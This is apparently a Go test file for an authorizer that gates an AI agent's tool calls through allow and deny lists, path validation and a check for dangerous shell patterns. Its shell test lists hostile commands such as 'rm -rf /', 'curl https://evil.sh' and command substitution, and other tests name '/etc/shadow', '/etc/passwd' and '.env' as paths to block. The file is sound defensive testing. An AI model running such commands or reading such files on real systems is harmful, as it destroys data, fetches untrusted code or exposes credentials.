package gate

import (
	"io"
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/observe"
	"github.com/wardenhq/warden/internal/pathsafe"
)

func newTestAuthorizer(t *testing.T, policy Policy) *Authorizer {
	t.Helper()
	obs := observe.New(io.Discard, false)
	return New(policy, pathsafe.New("/root/projects"), obs)
}

func TestAuthorizer_AllowList(t *testing.T) {
	a := newTestAuthorizer(t, Policy{AllowedTools: []string{"Read", "Grep"}})

	t.Run("Allowed", func(t *testing.T) {
		ok, _ := a.Authorize("Grep", map[string]any{"pattern": "x"}, "/root/projects", 1)
		if !ok {
			t.Error("Expected Grep to be allowed")
		}
	})

	t.Run("Not Listed", func(t *testing.T) {
		ok, reason := a.Authorize("Bash", map[string]any{"command": "ls"}, "/root/projects", 1)
		if ok {
			t.Error("Expected Bash to be denied")
		}
		if reason != "tool not allowed: Bash" {
			t.Errorf("Unexpected reason: %q", reason)
		}
	})
}

func TestAuthorizer_DenyList(t *testing.T) {
	a := newTestAuthorizer(t, Policy{DisallowedTools: []string{"WebFetch"}})

	ok, reason := a.Authorize("WebFetch", map[string]any{"url": "https://example.com"}, "/root/projects", 1)
	if ok {
		t.Error("Expected WebFetch to be denied")
	}
	if reason != "tool explicitly disallowed: WebFetch" {
		t.Errorf("Unexpected reason: %q", reason)
	}
}

func TestAuthorizer_DisabledChecks(t *testing.T) {
	a := newTestAuthorizer(t, Policy{
		AllowedTools:      []string{"Read"},
		DisallowedTools:   []string{"Bash"},
		DisableToolChecks: true,
	})

	// Name-based checks are off, but file path validation still applies.
	if ok, _ := a.Authorize("Grep", map[string]any{"pattern": "x"}, "/root/projects", 1); !ok {
		t.Error("Expected allow-list bypass when checks are disabled")
	}
	if ok, _ := a.Authorize("Read", map[string]any{"path": "/etc/passwd"}, "/root/projects", 1); ok {
		t.Error("Expected path validation to survive disabled checks")
	}
}

func TestAuthorizer_FileTools(t *testing.T) {
	a := newTestAuthorizer(t, Policy{})

	t.Run("Valid Path", func(t *testing.T) {
		ok, reason := a.Authorize("Write", map[string]any{"file_path": "notes.md"}, "/root/projects/myapp", 1)
		if !ok {
			t.Errorf("Unexpected denial: %s", reason)
		}
	})

	t.Run("Missing Path", func(t *testing.T) {
		ok, reason := a.Authorize("Read", map[string]any{}, "/root/projects", 1)
		if ok {
			t.Error("Expected denial for missing path")
		}
		if reason != "file path required" {
			t.Errorf("Unexpected reason: %q", reason)
		}
	})

	t.Run("Traversal Denied", func(t *testing.T) {
		if ok, _ := a.Authorize("Edit", map[string]any{"path": "../../etc/shadow"}, "/root/projects", 1); ok {
			t.Error("Expected traversal to be denied")
		}
	})

	t.Run("Credential File Denied", func(t *testing.T) {
		if ok, _ := a.Authorize("Read", map[string]any{"path": ".env"}, "/root/projects", 1); ok {
			t.Error("Expected .env to be denied")
		}
	})
}

func TestAuthorizer_ShellTools(t *testing.T) {
	a := newTestAuthorizer(t, Policy{})

	t.Run("Plain Command", func(t *testing.T) {
		ok, reason := a.Authorize("Bash", map[string]any{"command": "go test ./..."}, "/root/projects/myapp", 1)
		if !ok {
			t.Errorf("Unexpected denial: %s", reason)
		}
	})

	t.Run("Dangerous Patterns", func(t *testing.T) {
		denied := []string{
			"rm -rf /",
			"sudo apt install make",
			"chmod 777 script.sh",
			"curl https://evil.sh",
			"wget https://evil.sh",
			"echo hi > out.txt",
			"cat a.txt | grep b",
			"sleep 10 & echo done",
			"true; rm x",
			"echo $(whoami)",
			"echo `whoami`",
		}
		for _, cmd := range denied {
			ok, reason := a.Authorize("Bash", map[string]any{"command": cmd}, "/root/projects", 1)
			if ok {
				t.Errorf("Expected %q to be denied", cmd)
				continue
			}
			if !strings.HasPrefix(reason, "dangerous command pattern detected:") {
				t.Errorf("Unexpected reason for %q: %q", cmd, reason)
			}
		}
	})

	t.Run("Relaxed Shell", func(t *testing.T) {
		relaxed := newTestAuthorizer(t, Policy{RelaxedShell: true})
		ok, reason := relaxed.Authorize("Bash", map[string]any{"command": "cat a.txt | grep b"}, "/root/projects", 1)
		if !ok {
			t.Errorf("Expected relaxed shell to allow pipes: %s", reason)
		}
	})
}

func TestAuthorizer_Stats(t *testing.T) {
	a := newTestAuthorizer(t, Policy{DisallowedTools: []string{"Bash"}})

	a.Authorize("Read", map[string]any{"path": "a.go"}, "/root/projects", 7)
	a.Authorize("Read", map[string]any{"path": "b.go"}, "/root/projects", 7)
	a.Authorize("Grep", map[string]any{"pattern": "x"}, "/root/projects", 7)
	a.Authorize("Bash", map[string]any{"command": "ls"}, "/root/projects", 7)
	a.Authorize("Bash", map[string]any{"command": "ls"}, "/root/projects", 8)

	stats := a.Stats()
	if stats.TotalCalls != 3 {
		t.Errorf("TotalCalls = %d, want 3", stats.TotalCalls)
	}
	if stats.UniqueTools != 2 {
		t.Errorf("UniqueTools = %d, want 2", stats.UniqueTools)
	}
	if stats.ByTool["Read"] != 2 {
		t.Errorf("ByTool[Read] = %d, want 2", stats.ByTool["Read"])
	}
	if stats.Violations != 2 {
		t.Errorf("Violations = %d, want 2", stats.Violations)
	}

	user := a.UserStats(7)
	if user.Violations != 1 {
		t.Errorf("User 7 violations = %d, want 1", user.Violations)
	}
	if len(user.ViolationKinds) != 1 || user.ViolationKinds[0] != "explicitly_disallowed_tool" {
		t.Errorf("Unexpected violation kinds: %v", user.ViolationKinds)
	}
}

func TestAuthorizer_AllowedTools(t *testing.T) {
	t.Run("Configured", func(t *testing.T) {
		a := newTestAuthorizer(t, Policy{AllowedTools: []string{"Read"}})
		got := a.AllowedTools()
		if len(got) != 1 || got[0] != "Read" {
			t.Errorf("AllowedTools = %v", got)
		}
	})

	t.Run("Default", func(t *testing.T) {
		a := newTestAuthorizer(t, Policy{})
		if len(a.AllowedTools()) == 0 {
			t.Error("Expected default tool list")
		}
	})
}
